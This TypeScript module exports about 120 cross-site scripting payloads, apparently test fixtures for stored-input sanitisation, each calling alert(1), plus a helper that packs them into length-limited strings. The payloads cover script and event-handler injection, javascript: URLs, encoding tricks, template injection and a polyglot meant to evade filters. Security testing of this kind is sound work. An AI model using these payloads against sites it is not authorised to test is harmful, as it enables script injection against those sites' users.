/** What runs when a browser takes a payload for more than a text. */
const run = 'alert(1)';

const elements = `
<script>X</script>
<ScRiPt>X</sCrIpT>
<script src=data:,X></script>
<script/x>X</script>
"><script>X</script>
'><script>X</script>
</title><script>X</script>
</textarea><script>X</script>
</script><script>X</script>
</style><script>X</script>
<!--><script>X</script>
<![CDATA[<script>X</script>]]>
<?xml version="1.0"?><script>X</script>
<scr<script>ipt>X</scr</script>ipt>
<<script>X//<</script>
<script>X<!--
<img src=x onerror=X>
<img/src=x/onerror=X>
"><img src=x onerror=X>
'><img src=x onerror=X>
<img src=x onerror="X">
<img src=\`x\`onerror=X>
<IMG SRC=x ONERROR=X>
<image src=x onerror=X>
<img src=data:image/png;base64, onerror=X>
<img srcset=x onerror=X>
<img src=x:x onerror=X//
<picture><source srcset=x><img onerror=X></picture>
<svg onload=X>
<svg/onload=X>
"><svg onload=X>
<svg><script>X</script></svg>
<svg><animate onbegin=X attributeName=x dur=1s>
<svg><set onbegin=X attributename=x>
<svg><image href=x onerror=X>
<svg><foreignObject><iframe onload=X>
<svg><style><img src=x onerror=X>
<svg><a xlink:href="javascript:X"><text y=20>a</text></a>
<math><mi xlink:href="javascript:X">a
<math><annotation-xml encoding="text/html"><script>X</script>
<body onload=X>
<body onpageshow=X>
<frameset onload=X>
<iframe src="javascript:X">
<iframe srcdoc="<script>X</script>">
<iframe onload=X>
<object data="javascript:X">
<object data="data:text/html,<script>X</script>">
<object><param name=src value=javascript:X>
<embed src="javascript:X">
<applet code="javascript:X">
<bgsound src="javascript:X">
<a href="javascript:X">a</a>
<a href="&#106;avascript:X">a</a>
<a href=" javascript:X">a</a>
<a href="java&Tab;script:X">a</a>
<a id=x tabindex=1 onfocus=X autofocus></a>
<form action="javascript:X"><button>a
<form><button formaction="javascript:X">a
<isindex action=javascript:X>
<input onfocus=X autofocus>
<input type=image src=x onerror=X>
<select onfocus=X autofocus>
<textarea onfocus=X autofocus>
<keygen onfocus=X autofocus>
<video src=x onerror=X>
<video><source onerror=X>
<video poster=javascript:X//>
<audio src=x onerror=X>
<details open ontoggle=X>
<dialog open onclose=X>
<marquee onstart=X>
<button popovertarget=x>a</button><b popover id=x onbeforetoggle=X>
<slot onslotchange=X>
<x onclick=X>a
<p onpointerenter=X>a
<div onmouseover=X style=position:fixed;inset:0>
<div onanimationstart=X style="animation:x 1s">
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=X>
<meta http-equiv=refresh content="0;url=javascript:X">
<link rel=stylesheet href="javascript:X">
<base href="javascript:X//">
<style>@import "javascript:X"</style>
<div style="background:url(javascript:X)">
<div style="width:expression(X)">
<table background="javascript:X">
<template><script>X</script></template>
<noscript><p title="</noscript><img src=x onerror=X>">
<xmp><p title="</xmp><img src=x onerror=X>">
`;

const texts = `
javascript:X
javascript://%0aX
<javascript:X>
<!-- --!><img src=x onerror=X>
data:text/html,<script>X</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:X
" onmouseover="X
' onmouseover='X
\` onmouseover=\`X
" autofocus onfocus="X
"-X-"
'-X-'
";X//
';X//
\\";X//
*/X/*
{{constructor.constructor("X")()}}
{{X}}
\${X}
#{X}
<%= X %>
[[X]]
&lt;script&gt;X&lt;/script&gt;
&#60;script&#62;X&#60;/script&#62;
&#x3c;img src=x onerror=X&#x3e;
%3Cscript%3EX%3C/script%3E
\\u003cscript\\u003eX\\u003c/script\\u003e
\\x3cscript\\x3eX\\x3c/script\\x3e
+ADw-script+AD4-X+ADw-/script+AD4-
{"__html":"<img src=x onerror=X>"}
[object Object]<img src=x onerror=X>
jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */X)//
`;

/** Payloads of stored scripts, each a text of at most 100 characters; all of them call alert. */
export const scriptPayloads: readonly string[] = `${elements}${texts}`
  .split('\n')
  .filter((line) => line !== '')
  .map((line) => line.replaceAll('X', run));

/** The same, as many together in one text as it may hold. */
export function packedPayloads(mostCharacters: number): string[] {
  const packed: string[] = [];
  for (const payload of scriptPayloads) {
    const before = packed.at(-1);
    if (before !== undefined && before.length + 1 + payload.length <= mostCharacters)
      packed[packed.length - 1] = `${before} ${payload}`;
    else packed.push(payload);
  }
  return packed;
}
